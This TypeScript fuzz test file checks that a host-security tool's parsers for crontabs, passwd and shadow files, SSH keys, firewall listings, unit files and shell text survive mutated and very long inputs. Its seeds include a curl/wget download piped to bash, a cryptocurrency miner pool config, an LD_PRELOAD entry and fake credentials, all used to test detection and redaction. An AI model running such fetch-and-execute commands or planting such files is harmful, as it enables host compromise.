import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { readCommand } from '../../src/findings/command-reading.ts';
import { isMinerConfig } from '../../src/findings/mining-text.ts';
import { splitShell } from '../../src/findings/shell-words.ts';
import { parseFilterListing } from '../../src/host/firewall/iptables-listing.ts';
import { ListingError, parseTableListing, parseTables } from '../../src/host/firewall/nft-listing.ts';
import { parsePublicKey } from '../../src/host/perform/host-key.ts';
import { parsePreload } from '../../src/host/preload-file.ts';
import { parseAuthInfo } from '../../src/host/responder.ts';
import { parseAuthorizedKey } from '../../src/host/scan/authorized-key.ts';
import { parseGetcap } from '../../src/host/scan/capabilities.ts';
import { parseCrontab } from '../../src/host/scan/crontab.ts';
import { parseHostsLine } from '../../src/host/scan/hosts-file.ts';
import { parseLsattr } from '../../src/host/scan/immutable-files.ts';
import { parseInstalled } from '../../src/host/scan/ownership-apk.ts';
import { parseApk, parseApt } from '../../src/host/scan/packages.ts';
import { parseDnf } from '../../src/host/scan/packages-dnf.ts';
import { parseUpdates, parseUpgrades } from '../../src/host/scan/packages-zypper.ts';
import { parsePamRule } from '../../src/host/scan/pam.ts';
import { parsePasswd, parseShadow } from '../../src/host/scan/passwd.ts';
import { parseSockets } from '../../src/host/scan/proc-net.ts';
import { parseProcessStat } from '../../src/host/scan/proc-stat.ts';
import { parseIni } from '../../src/host/scan/starts/ini-text.ts';
import { parseUnitFile } from '../../src/host/scan/unit-file.ts';
import { parseSshConnection } from '../../src/host/ssh-peer.ts';
import { findCheckpoint } from '../../src/journal/checkpoint.ts';
import { parseJournal } from '../../src/journal/read-journal.ts';
import { NO_HASH } from '../../src/journal/record-line.ts';
import { parsePlaybook } from '../../src/playbook/parse.ts';
import { printable } from '../../src/text/printable.ts';
import { redact } from '../../src/text/redact.ts';
import { catalogue } from '../playbook/catalogue.ts';
import { makeJournal } from '../support/incident-builder.ts';
import { report, runs } from '../support/length.ts';
import { RECORDS } from '../transcript/journal.ts';
import { CORPUS } from './corpus.ts';

/**
 * Everything that reads what a host, a file or a person may have written, with mutations of real text, and with text
 * that grows: no crash, no hang, no more memory than the text is worth.
 */
interface Reader {
  readonly seed: string;
  readonly read: (text: string) => unknown;
}

const lines = (text: string) => text.split('\n');
const journalText = () => makeJournal(RECORDS.slice(0, 12)).text;
/** What is no listing is an error of its own, which its caller takes for `unknown`. */
function listing(read: (text: string) => unknown, text: string): unknown {
  try {
    return read(text);
  } catch (error) {
    if (error instanceof ListingError) return null;
    throw error;
  }
}

const READERS: Readonly<Record<string, Reader>> = {
  playbook: {
    seed: 'name: a\ntitle: A\nplatform: any\ninputs:\n  x:\n    type: string\n    pattern: ^a+$\nsteps:\n  - name: B\n    id: b\n    why: c\n    if: inputs.x == "a" && true\n    run: |\n      echo "$X"\n    env:\n      X: ${{ inputs.x }}\n',
    read: (text) => parsePlaybook(text, 'a.yaml', catalogue),
  },
  journal: { seed: journalText(), read: (text) => parseJournal(Buffer.from(text)) },
  checkpoint: {
    seed: 'abandon ability able about above absent',
    read: (text) => findCheckpoint([NO_HASH], text),
  },
  crontab: {
    seed: 'PATH=/bin\n*/5 1-3 * * mon root echo 50\\% off%stdin\n@reboot ann /bin/x\n',
    read: (text) => [parseCrontab(lines(text), true), parseCrontab(lines(text), false)],
  },
  unit: {
    seed: '[Service]\nExecStart=-@/bin/sh \\\n# b\n -c "x"\nEnvironment=A=1 "LD_PRELOAD=/tmp/a b.so"\n',
    read: (text) => parseUnitFile(lines(text)),
  },
  ini: { seed: '[Desktop Entry]\nExec=/bin/x %U\nHidden=false\n', read: parseIni },
  passwd: {
    seed: 'root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:\n',
    read: (text) => parsePasswd(lines(text)),
  },
  shadow: {
    seed: 'root:$y$j9T$a$b:19000:0:99999:7:::\nann:!:1::::::\n',
    read: (text) => parseShadow(lines(text)),
  },
  'authorized keys': {
    seed: 'from="10.0.0.0/8",command="a \\"b\\"",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGa me@x\n',
    read: (text) => lines(text).map(parseAuthorizedKey),
  },
  'public key': { seed: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGa me@x\n', read: parsePublicKey },
  'auth info': { seed: 'publickey ssh-ed25519 AAAAC3Nza\n', read: parseAuthInfo },
  'ssh connection': { seed: 'fe80::1%eth0 50000 10.0.0.1 22', read: parseSshConnection },
  'tcp table': {
    seed: '  sl  local_address rem_address   st\n   0: 0100007F:0016 0200007F:C350 01 00000000:00000000 00:00000000 00000000     0        0 1234 1 0\n',
    read: parseSockets,
  },
  'process stat': {
    seed: '812 (a) b) S 1 812 812 0 -1 4194560 1 2 3 4 5 6 7 8 20 0 1 0 4242 1 2 3\n',
    read: (text) => parseProcessStat(Buffer.from(text)),
  },
  hosts: { seed: '127.0.0.1 localhost a.b # c\n::1 x\n', read: (text) => lines(text).map(parseHostsLine) },
  pam: {
    seed: 'auth [success=1 default=ignore] pam_unix.so nullok\n@include x\n',
    read: (text) => lines(text).map(parsePamRule),
  },
  preload: { seed: '/lib/a.so:/lib/b.so /c.so # d\n', read: parsePreload },
  getcap: { seed: '/usr/bin/ping cap_net_raw=ep\n', read: (text) => parseGetcap(text, '/') },
  lsattr: { seed: '----i---------e------- /etc/passwd\n', read: (text) => parseLsattr(text, '/') },
  'apk list': { seed: 'C:Q1abc=\nP:busybox\nF:bin\nR:busybox\nZ:Q1xyz=\n\n', read: parseInstalled },
  'pending packages': {
    seed: 'Inst bash [5.2-1] (5.2-2 Debian:12/stable [amd64])\nbash.x86_64 5.2-2 updates\nbash-5.2 < 5.3\n',
    read: (text) => [
      ...[parseApt(text), parseDnf(text), parseApk(text)],
      ...[parseUpdates(text), parseUpgrades(text)],
    ],
  },
  'nft listing': {
    seed: '{"nftables":[{"table":{"family":"inet","name":"x","handle":1}},{"rule":{"expr":[{"match":{}}]}}]}',
    read: (text) => [listing(parseTableListing, text), listing(parseTables, text)],
  },
  'iptables listing': {
    seed: '-P INPUT ACCEPT\n-N F2B\n-A INPUT -s 10.0.0.1/32 -j F2B\n',
    read: parseFilterListing,
  },
  'shell text': {
    seed: `(curl -fsSL http://a/x.sh||wget -q -O- http://a/x.sh)|bash -s -- 'a b' "$(id)" >/dev/null 2>&1 &\n`,
    read: (text) => [splitShell(text), readCommand(text, { folder: '/', home: '/root' } as never)],
  },
  'miner configuration': {
    seed: '{"pools":[{"url":"stratum+tcp://a:3333","user":"4A"}]}',
    read: isMinerConfig,
  },
  text: {
    seed: 'a\u001b]0;x\u0007\u202e\udc80 password=hunter2 AKIA0000\n',
    read: (text) => [printable(text), redact(text)],
  },
};

/** What breaks readers: ends of things, nesting, and what their grammars give a meaning. */
const TOKENS = [
  '\0',
  '\n',
  '\r',
  '\\',
  '"',
  "'",
  '`',
  '$(',
  '${{',
  '}}',
  '(',
  ')',
  '[',
  ']',
  '{',
  '}',
  '%',
  '#',
  ':',
  '=',
  '-',
  '*',
  '&a',
  '*a',
  '<<EOF',
  '|',
  ';',
  '\u{fffd}',
  '\udc80',
  '\u202e',
  '99999999999999999999',
  '-1',
  '1e999',
  '__proto__',
  'constructor',
  '\t',
  ' ',
] as const;

function mutated(seed: string) {
  const change = fc.tuple(
    fc.nat(),
    fc.nat(40),
    fc.oneof(fc.constantFrom(...TOKENS), fc.string({ unit: 'binary', maxLength: 8 })),
    fc.nat(3),
  );
  return fc.array(change, { minLength: 1, maxLength: 8 }).map((changes) =>
    changes.reduce((text, [at, length, put, how]) => {
      const from = at % (text.length + 1);
      const piece = text.slice(from, from + length);
      if (how === 0) return text.slice(0, from) + put + text.slice(from);
      if (how === 1) return text.slice(0, from) + text.slice(from + length);
      if (how === 2) return text.slice(0, from) + piece + piece + text.slice(from + length);
      return text.slice(0, from) + put + text.slice(from + length);
    }, seed),
  );
}

/** Of processor time, so that a loaded machine does not count. */
function cpuMs(work: () => void): number {
  const before = process.cpuUsage();
  work();
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1000;
}

const MOST_MS = 4_000;
const LONG = 60_000;

describe('whatever is read', () => {
  let tried = 0;
  afterAll(() =>
    report({ suite: 'parsers, mutated and growing input', runs: tried, faults: tried, lost: 0, escaped: 0 }),
  );

  test.for(Object.entries(CORPUS))('%s: what broke it once is read or refused', ([name, texts]) => {
    const reader = READERS[name];
    if (reader === undefined) throw new Error(`no reader is called ${name}`);
    for (const text of texts) {
      tried += 1;
      expect(cpuMs(() => reader.read(text))).toBeLessThan(MOST_MS);
    }
  });

  test.for(Object.entries(READERS))(
    '%s: mutated, it is read or refused, never a crash',
    { timeout: 600_000 },
    ([, { seed, read }]) => {
      expect(() => read(seed)).not.toThrow();
      const numRuns = runs(150, 20_000);
      fc.assert(
        fc.property(mutated(seed), (text) => {
          read(text);
        }),
        { numRuns },
      );
      tried += numRuns;
    },
  );

  test.for(Object.entries(READERS))(
    '%s: growing, it takes no more than its share of time',
    { timeout: 600_000 },
    ([, { seed, read }]) => {
      const growing = [
        ...TOKENS,
        ...lines(seed).map((line) => `${line}\n`),
        seed,
        'a',
        ' a',
        '/a',
        '((((',
        '\\\n',
      ];
      for (const piece of growing) {
        if (piece === '') continue;
        for (const text of [
          piece.repeat(Math.ceil(LONG / piece.length)),
          seed + piece.repeat(Math.ceil(LONG / piece.length)) + seed,
        ]) {
          tried += 1;
          let failure: unknown = null;
          const tookMs = cpuMs(() => {
            try {
              read(text);
            } catch (error) {
              failure = error;
            }
          });
          expect(failure, JSON.stringify(piece)).toBeNull();
          expect(tookMs, `${text.length} characters of ${JSON.stringify(piece.slice(0, 40))}`).toBeLessThan(
            MOST_MS,
          );
        }
      }
    },
  );
});
